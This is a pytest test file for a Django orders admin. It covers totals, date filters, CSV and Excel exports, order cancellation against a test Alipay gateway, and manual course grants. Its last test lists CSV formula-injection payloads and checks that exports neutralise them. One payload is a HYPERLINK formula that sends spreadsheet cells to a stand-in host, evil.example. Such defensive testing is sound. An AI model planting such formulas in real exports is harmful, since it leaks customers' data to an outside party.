"""The orders admin: totals of the filtered list, the date range, exports with lines, staff
cancel through the service (against the local Alipay gateway), courses granted by hand."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from apps.order.models import CourseEntitlement, ManualGrant, Order
from tests.factories import CourseFactory, OrderFactory, OrderLineFactory, UserFactory

pytestmark = pytest.mark.django_db

CHANGELIST = "/admin/order/order/"


@pytest.fixture
def staff(db):
    return UserFactory(is_staff=True, is_superuser=True, username="店长")


@pytest.fixture
def staff_client(staff) -> Client:
    client = Client()
    client.force_login(staff)
    return client


def order_with_lines(*prices: str, days_ago: int = 0, paid: bool = True, **kwargs) -> Order:
    created = timezone.now() - timedelta(days=days_ago)
    total = sum((Decimal(p) for p in prices), Decimal("0"))
    order = OrderFactory(paid=paid, total_amount=total, **kwargs)
    Order.objects.filter(pk=order.pk).update(created_time=created)
    for price in prices:
        OrderLineFactory(order=order, course=CourseFactory(price=Decimal(price)))
    order.refresh_from_db()
    return order


def test_the_list_shows_the_totals_of_every_filtered_order_not_only_the_page(
    staff_client, monkeypatch
):
    from apps.order.admin import OrderAdmin

    monkeypatch.setattr(OrderAdmin, "list_per_page", 1)
    order_with_lines("10.00", "20.50")
    order_with_lines("5.00")
    OrderFactory(total_amount=Decimal("7.00"))  # unpaid

    response = staff_client.get(CHANGELIST)

    assert len(response.context["cl"].result_list) == 1
    totals = response.context["totals"]
    assert totals["all"] == {"amount": Decimal("42.50"), "count": 3}
    assert totals["paid"] == {"amount": Decimal("35.50"), "count": 2}
    assert "合计 ¥42.50" in response.text


def test_the_date_range_filter_keeps_orders_created_between_two_local_days(staff_client):
    inside = order_with_lines("10.00", days_ago=3)
    order_with_lines("20.00", days_ago=10)
    order_with_lines("30.00", days_ago=0)
    today = timezone.localdate()
    params = {
        "created_time__range_from": (today - timedelta(days=5)).isoformat(),
        "created_time__range_to": (today - timedelta(days=1)).isoformat(),
    }

    response = staff_client.get(CHANGELIST, params)

    assert list(response.context["cl"].queryset) == [inside]
    assert response.context["totals"]["all"]["amount"] == Decimal("10.00")


def test_a_malformed_date_is_refused_without_an_error_page(staff_client):
    response = staff_client.get(CHANGELIST, {"created_time__range_from": "2026-13-45"})

    assert response.status_code == 302
    assert "e=1" in response["Location"]


def test_csv_export_has_one_row_per_line_of_the_filtered_orders(staff_client):
    two = order_with_lines("10.00", "20.50", out_trade_no="EXPORT-2")
    order_with_lines("99.00", out_trade_no="OTHER", days_ago=40)

    response = staff_client.get(
        f"{CHANGELIST}export.csv",
        {"created_time__range_from": (timezone.localdate() - timedelta(days=1)).isoformat()},
    )

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.csv"')
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:2] == ["订单号", "支付宝流水号"]
    assert [(r[0], r[5], r[-1]) for r in rows[1:]] == [
        ("EXPORT-2", "30.50", "10.00"),
        ("EXPORT-2", "30.50", "20.50"),
    ]
    assert rows[1][2] == two.user.username and rows[1][6] == "已支付"


def test_excel_export_follows_the_search_and_keeps_money_exact(staff_client):
    order_with_lines("0.10", "0.20", out_trade_no="XLSX-1")
    order_with_lines("1.00", out_trade_no="NOT-THIS")

    response = staff_client.get(f"{CHANGELIST}export.xlsx", {"q": "XLSX-1"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert [r[0] for r in rows[1:]] == ["XLSX-1", "XLSX-1"]
    assert sum(Decimal(str(r[-1])) for r in rows[1:]) == Decimal("0.30")


def test_an_export_with_bad_filters_goes_back_with_a_message(staff_client):
    response = staff_client.get(f"{CHANGELIST}export.csv", {"pay_time__range_to": "yesterday"})

    assert response.status_code == 302


def test_staff_cancels_an_unpaid_order_closing_its_alipay_trade(staff_client, make_order, alipay):
    order = make_order([CourseFactory()])
    alipay.add_trade(order.out_trade_no, order.total_amount, status="WAIT_BUYER_PAY")

    response = staff_client.post(
        CHANGELIST, {"action": "cancel_unpaid_action", "_selected_action": [order.pk]}
    )

    assert response.status_code == 302
    order.refresh_from_db()
    assert order.order_status == Order.Status.CANCELLED
    assert alipay.requests_for("alipay.trade.close")


def test_an_order_paid_meanwhile_is_settled_not_cancelled(staff_client, make_order, alipay):
    order = make_order([CourseFactory()])
    alipay.pay(order.out_trade_no, order.total_amount)

    response = staff_client.post(
        CHANGELIST,
        {"action": "cancel_unpaid_action", "_selected_action": [order.pk]},
        follow=True,
    )

    order.refresh_from_db()
    assert order.order_status == Order.Status.PAID
    assert CourseEntitlement.objects.filter(order=order).exists()
    assert "无法取消" in response.text


def test_staff_grants_a_course_by_hand_and_the_reason_is_kept(staff_client, staff):
    buyer, course = UserFactory(), CourseFactory(students=3)

    response = staff_client.post(
        "/admin/order/manualgrant/add/",
        {"user": buyer.pk, "course": course.pk, "reason": "直播课补偿"},
    )

    assert response.status_code == 302
    grant = ManualGrant.objects.get()
    assert (grant.user, grant.course, grant.staff, grant.reason) == (
        buyer,
        course,
        staff,
        "直播课补偿",
    )
    assert grant.entitlement.order is None and grant.entitlement.user == buyer
    course.refresh_from_db()
    assert course.students == 4


def test_a_course_the_user_owns_cannot_be_granted_again(staff_client):
    buyer, course = UserFactory(), CourseFactory()
    staff_client.post(
        "/admin/order/manualgrant/add/", {"user": buyer.pk, "course": course.pk, "reason": "一"}
    )

    response = staff_client.post(
        "/admin/order/manualgrant/add/", {"user": buyer.pk, "course": course.pk, "reason": "二"}
    )

    assert response.status_code == 200
    assert "该用户已拥有这门课程" in response.text
    assert ManualGrant.objects.count() == 1 == CourseEntitlement.objects.count()


def test_a_grant_without_a_reason_is_refused(staff_client):
    response = staff_client.post(
        "/admin/order/manualgrant/add/",
        {"user": UserFactory().pk, "course": CourseFactory().pk, "reason": ""},
    )

    assert response.status_code == 200
    assert not CourseEntitlement.objects.exists()


def test_staff_who_may_only_view_orders_cannot_cancel_them(make_order):
    from django.contrib.auth.models import Permission

    viewer = UserFactory(is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_order"))
    client = Client()
    client.force_login(viewer)
    order = make_order([CourseFactory()])

    page = client.get(CHANGELIST)
    client.post(CHANGELIST, {"action": "cancel_unpaid_action", "_selected_action": [order.pk]})

    assert "cancel_unpaid_action" not in page.text
    order.refresh_from_db()
    assert order.order_status == Order.Status.UNPAID


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&D2&D3,"查看")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_no_exported_text_runs_as_a_formula_in_csv_or_excel(staff_client):
    """Orders placed before the subject became the course names may hold a buyer's formula."""
    user = UserFactory(username="@cmd", mobile="13800000077")
    orders = [
        order_with_lines("1.00", out_trade_no=f"F-{i}", subject=text, user=user)
        for i, text in enumerate(FORMULAS)
    ]

    csv_text = b"".join(
        staff_client.get(f"{CHANGELIST}export.csv", {"q": "F-"}).streaming_content
    ).decode("utf-8-sig")
    sheet = load_workbook(
        io.BytesIO(staff_client.get(f"{CHANGELIST}export.xlsx", {"q": "F-"}).content)
    ).active

    csv_rows = {r[0]: r for r in csv.reader(io.StringIO(csv_text, newline=""))}
    for order in orders:
        assert csv_rows[order.out_trade_no][4] == "'" + order.subject
        assert csv_rows[order.out_trade_no][2] == "'@cmd"
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for order in orders:
        subject = cells[order.out_trade_no][4]
        # Text, kept (XML reads a stored CR back as LF).
        assert subject.data_type == "s" and subject.value == order.subject.replace("\r", "\n")
        assert cells[order.out_trade_no][2].data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert isinstance(cells["F-0"][5].value, float | int)  # money is still a number
